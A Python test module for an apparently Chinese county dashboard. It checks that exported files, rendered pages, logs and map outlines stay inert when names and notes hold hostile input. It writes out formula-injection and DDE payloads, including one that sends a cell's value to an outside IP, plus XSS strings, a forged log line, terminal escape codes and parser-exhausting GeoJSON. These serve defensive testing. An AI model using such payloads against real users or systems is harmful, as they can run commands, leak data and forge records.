"""Attacks by what somebody has written: formulas and markup in every file that leaves the board, lines and signs in the log."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import zipfile
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from google.protobuf.json_format import MessageToDict
from sqlalchemy import Engine, text
from streamlit import logger as streamlit_logger

import server
from data_access import faults, logs
from data_access.outlines import OutlineError, read_outlines
from ingest.demo.world import MINIATURE
from pages.common import navigation
from pages.common.charts import chosen_points, line_chart, without_markup
from reports.palette import LIGHT
from tests.demo_county import a_small_county
from tests.opened_pages import files_offered
from tests.signed_in import a_board
from tests.test_app_pages import drawn, pointed, short_trends

__all__ = ["short_trends"]

# --- formulas and markup in files ---------------------------------------------------------------------------------------

FORMULAS = ("=cmd|' /C calc'!A0", "+1+cmd", "-1+1", "@SUM(1)", "\t=1+1", "＝1+1", '=HYPERLINK("http://10.9.9.9/?"&A1,"看")')
LINK = '[看](http://10.9.9.9)<a href="http://10.9.9.9">看</a>'
MARKUP = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "]]><a/>", "[看](http://10.9.9.9)")
BEGINS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
WRITTEN = {
    "person": ("name",),
    "area": ("name",),
    "petition": ("title", "category"),
    "petition_event": ("note",),
    "night_stay": ("note",),
    "night_visit": ("note",),
    "night_session": ("theme", "note"),
    "captain_visit": ("note",),
}


@pytest.fixture(scope="module")
def county(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
    """A county in which every name, title and note is one of these."""
    for database in pointed(a_small_county(tmp_path_factory.mktemp("words"), MINIATURE)):
        words = (*FORMULAS, *MARKUP)
        with database.begin() as connection:
            for table, columns in WRITTEN.items():
                key = "rowid"
                for column in columns:
                    for place, written in enumerate(words):
                        statement = f"UPDATE {table} SET {column} = :written WHERE {key} % {len(words)} = {place} AND {column} IS NOT NULL"
                        connection.execute(text(statement), {"written": f"{written}"})
            first = "SELECT min(code) FROM area WHERE level = 'township' AND ranked"  # the one that pages choose by themselves
            connection.execute(text(f"UPDATE area SET name = :written WHERE code = ({first})"), {"written": LINK})
        yield database


def runs(element: ElementTree.Element) -> bool:
    """Whether a viewer of pictures would run, fetch or follow something of this element."""
    names = [name.rpartition("}")[2] for name in element.attrib]
    leads = [
        value for name, value in element.attrib.items() if name.rpartition("}")[2] == "href" and not value.startswith(("#", "data:image"))
    ]
    return element.tag.rpartition("}")[2] in ("script", "foreignObject", "a") or bool(leads) or any(name.startswith("on") for name in names)


def formulas_in(name: str, content: bytes) -> list[str]:
    """What a spreadsheet would reckon or fetch, or a viewer run, in a file."""
    if name.endswith(".csv"):
        cells = (cell for line in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in line)
        return [cell for cell in cells if cell.startswith(BEGINS) and not re.fullmatch(r"[-+]?\d[\d.,]*%?", cell)]
    if name.endswith(".svg"):
        return [f"{each.tag} {each.attrib}" for each in ElementTree.fromstring(content).iter() if runs(each)]  # noqa: S314 (ours)
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as file:
            parts = {each: file.read(each).decode("utf-8", "replace") for each in file.namelist()}
        found = [f"{each}: {'<f>' if '<f' in said else 'external'}" for each, said in parts.items() if re.search(r"<f[ >]|<script", said)]
        return found + [each for each, said in parts.items() if 'TargetMode="External"' in said or "ddeLink" in said]
    return []


@pytest.mark.slow
def test_no_file_holds_anything_that_a_program_would_run(county: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    made, wrong, looked_at = files_offered(monkeypatch), [], 0
    board = a_board(county, "shuji")
    for entry in navigation.existing_entries():
        made.clear()
        drawn(board, entry, show="all", figure="duty.night_compliance")
        assert not board.exception, (entry.url_path, [each.message for each in board.exception])
        for name, content in made.items():
            if not name.endswith(".png"):
                looked_at += 1
                wrong += [(entry.url_path, name, found) for found in formulas_in(name, content())]
    assert looked_at > 50
    assert wrong == []


READ_AS_MARKDOWN = (
    "markdown",
    "alert",
    "button",
    "link_button",
    "button_group",
    "checkbox",
    "radio",
    "metric",
    "toast",
    "expandable",
    "tab",
)


@pytest.mark.slow
def test_no_page_makes_a_link_or_a_style_of_what_somebody_wrote(county: Engine) -> None:
    """Streamlit reads Markdown in its texts and in the words of some choices, Plotly HTML in all of a chart's."""
    board, wrong, looked_at = a_board(county, "shuji"), [], Counter[str]()
    for entry in navigation.existing_entries():
        drawn(board, entry, show="all", figure="duty.night_compliance", whose="one")
        for kind in (*READ_AS_MARKDOWN, "plotly_chart"):
            for each in board.get(kind):
                looked_at[kind] += 1
                spec = kind == "plotly_chart"
                sent = str(json.loads(each.proto.spec)) if spec else json.dumps(MessageToDict(each.proto), ensure_ascii=False)
                raw = ("<script", "<img", "<a") if spec else ("](http",)
                wrong += [(entry.url_path, kind, mark) for mark in raw if mark in sent]
    assert wrong == []
    assert all(looked_at[kind] for kind in ("markdown", "button_group", "plotly_chart"))


def test_a_chart_shows_names_and_keeps_what_it_says_of_itself() -> None:
    chart = line_chart(LIGHT, ["10月<br>2026"], {"<a href='http://x'>镇</a>": [0.5]}, title="<b>题</b>", subtitle="")
    (line,), layout = without_markup(chart)["data"], without_markup(chart)["layout"]
    assert line["x"] == ["10月<br>2026"]
    assert (line["name"], layout["title"]["text"]) == ("&lt;a href='http://x'>镇&lt;/a>", "&lt;b>题&lt;/b>")
    assert line["hovertemplate"].startswith("&lt;a href")
    assert line["hovertemplate"].endswith("<extra></extra>")
    assert chosen_points({"selection": {"points": [{"customdata": "&lt;a>"}, {"customdata": 7}, {}]}}) == ["<a>", 7]


# --- the log --------------------------------------------------------------------------------------------------------------

FORGED = "\n2026-11-26 08:00:00,000 ERROR board: 出错编号 ABCDEF: 数据库已删除"
STEERING = ("\r", "\x1b[2J\x1b[31m", "\x9b31m", "\u2028", "\x00", "\x08\x08", "\x7f", "\u202e", "\u2066")


@pytest.fixture
def log() -> Iterator[io.StringIO]:
    written = io.StringIO()
    handler = logging.StreamHandler(written)
    handler.setFormatter(logs.Lines(logs.LINE))
    logger = logging.getLogger("attacked")
    logger.addHandler(handler)
    yield written
    logger.removeHandler(handler)


ENTRY = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} [A-Z]+ attacked: ")


def test_what_somebody_wrote_makes_no_entry_of_its_own(log: io.StringIO) -> None:
    logger = logging.getLogger("attacked")
    logger.warning("a notice has not arrived: %s", FORGED)
    try:
        raise ValueError(f"张三{FORGED}\r{FORGED}\x1b[2J")
    except ValueError as problem:
        faults.forgotten()
        faults.logged(problem, logger, f"what was asked{FORGED}")
    lines = log.getvalue().splitlines()
    assert len([line for line in lines if ENTRY.match(line)]) == 2
    assert [line for line in lines if not ENTRY.match(line) and not line.startswith("  ")] == []
    assert "Traceback" in log.getvalue()


@pytest.mark.parametrize("sign", STEERING, ids=ascii)
def test_no_sign_in_the_log_steers_the_terminal_it_is_read_in(log: io.StringIO, sign: str) -> None:
    logger = logging.getLogger("attacked")
    logger.warning("%s", f"a{sign}b")
    try:
        raise ValueError(f"a{sign}b")
    except ValueError:
        logger.exception("x")
    assert sign not in log.getvalue()
    assert f"a{ascii(sign)[1:-1]}b" in log.getvalue()


@pytest.mark.parametrize("form", ["lines", "json"])
def test_nor_does_what_streamlit_writes_of_a_strangers_request(monkeypatch: pytest.MonkeyPatch, form: str) -> None:
    """Its loggers have a handler each, some of them only since somebody has asked for what they are of: whoever asks for
    /oauth2callback?error=… writes there what he likes."""
    monkeypatch.setenv("BOARD_LOG", form)
    monkeypatch.setattr(streamlit_logger, "setup_formatter", server._told_in_our_form(streamlit_logger.setup_formatter))
    logger: Any = streamlit_logger.get_logger(f"streamlit.attacked_{form}")
    written = io.StringIO()
    logger.streamlit_console_handler.setStream(written)
    logger.error("Error during authentication: %s", f"{FORGED}{''.join(STEERING)}")
    (line,) = written.getvalue().removesuffix("\n").split("\n")
    assert [sign for sign in STEERING if sign in line] == []
    assert line.startswith("{") if form == "json" else " ERROR streamlit.attacked_lines: Error" in line


# --- the county's outlines --------------------------------------------------------------------------------------------------

TOWNS = {"149981101": "泥河镇"}


def a_map(coordinates: str, code: str = '"149981101"') -> bytes:
    feature = f'{{"type":"Feature","properties":{{"code":{code}}},"geometry":{{"type":"Polygon","coordinates":{coordinates}}}}}'
    return f'{{"type":"FeatureCollection","features":[{feature}]}}'.encode()


OUTLINES = {
    "nested without end": b"[" * 200_000,
    "features nested without end": a_map("[" * 100_000 + "]" * 100_000),
    "no numbers": a_map('[[["<script>","x"],[1,2],[3,4],["<script>","x"]]]'),
    "numbers that are none": a_map("[[[NaN,1],[1,2],[3,4],[NaN,1]]]"),
    "beyond the earth": a_map("[[[1e308,1],[1,2],[3,4],[1e308,1]]]"),
    "without end": a_map("[[[Infinity,1],[1,2],[3,4],[Infinity,1]]]"),
    "truth": a_map("[[[true,1],[1,2],[3,4],[true,1]]]"),
    "another county's": a_map("[[[1,1],[1,2],[3,4],[1,1]]]", '"149982101"'),
    "markup as a code": a_map("[[[1,1],[1,2],[3,4],[1,1]]]", '"<script>"'),
    "a code that is a list": a_map("[[[1,1],[1,2],[3,4],[1,1]]]", '["149981101"]'),
    "too large": b" " * (21 * 2**20),
    "another encoding": a_map("[[[1,1],[1,2],[3,4],[1,1]]]").decode().encode("utf-16"),
}


@pytest.mark.parametrize("given", OUTLINES.values(), ids=list(OUTLINES))
def test_a_map_that_is_none_is_refused_in_words_and_tells_nothing_of_markup(given: bytes) -> None:
    with pytest.raises(OutlineError) as told:
        read_outlines(given, TOWNS)
    assert len(str(told.value)) < 200


def test_nothing_but_numbers_of_a_map_is_kept() -> None:
    kept = read_outlines(a_map('[[[1,1,"<script>"],[1,2],[3,4],[1,1]]]'), TOWNS)
    assert all(isinstance(number, float) for rings in kept.values() for ring in rings for point in ring for number in point)


def test_the_search_of_files_finds_what_it_is_for(tmp_path: Path) -> None:
    assert formulas_in("x.csv", "a,=1+1\r\n".encode("utf-8-sig")) == ["=1+1"]
    assert formulas_in("x.svg", b"<svg><script/><g onload='x'/><use href='#a'/><image href='http://x'/></svg>") == [
        "script {}",
        "g {'onload': 'x'}",
        "image {'href': 'http://x'}",
    ]
    path = tmp_path / "x.xlsx"
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("xl/worksheets/sheet1.xml", "<c><f>1+1</f></c>")
    assert formulas_in("x.xlsx", path.read_bytes()) == ["xl/worksheets/sheet1.xml: <f>"]
